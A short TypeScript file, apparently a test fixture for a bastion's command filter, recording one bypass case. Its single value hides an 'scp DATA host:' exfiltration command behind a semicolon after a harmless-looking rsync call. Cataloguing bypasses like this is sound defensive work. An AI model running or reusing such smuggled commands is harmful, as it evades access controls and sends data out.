import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: behind one named like rsync',
  source: 'open-bastion#287',
  words: ['rsync --server . /tmp/nowhere; scp DATA host:'],
};
